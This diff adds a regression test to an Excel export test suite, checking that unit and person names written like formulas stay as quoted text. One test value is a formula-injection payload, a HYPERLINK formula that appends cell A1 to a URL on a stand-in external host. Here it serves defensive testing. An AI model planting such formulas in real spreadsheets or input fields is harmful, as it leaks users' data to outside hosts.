@@ -191,6 +191,21 @@ class TestExcel:
         assert leaders[5][0] is None
         assert leaders[5][-1] == "Không xếp loại (thời gian giữ chức vụ chưa đủ)"
 
+    def test_names_that_look_like_formulas_stay_text(self, ranked, client, office_staff, unit_b):
+        """Issue 14, item 5: a unit named like a formula must not become a live one in the workbook."""
+        unit_b.name_vi = '=HYPERLINK("http://x.example/?"&A1,"Xem")'
+        unit_b.save()
+        ranked["head_of_a"].person.full_name = "@SUM(1+1)"
+        ranked["head_of_a"].person.save()
+        client.force_login(office_staff)
+        workbook = load_workbook(io.BytesIO(client.get(f"/emulation/{YEAR}/export.xlsx").content))
+        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+        units = {cell.value: cell for cell in cells if cell.value == unit_b.name_vi}
+        leaders = {cell.value: cell for cell in cells if cell.value == "@SUM(1+1)"}
+        assert units[unit_b.name_vi].quotePrefix and units[unit_b.name_vi].data_type == "s"
+        assert leaders["@SUM(1+1)"].quotePrefix
+
     def test_an_officer_downloads_their_own_unit_only_without_the_breakdown(self, ranked, client, officer_a):
         client.force_login(officer_a)
         workbook = load_workbook(io.BytesIO(client.get(f"/emulation/{YEAR}/export.xlsx").content))
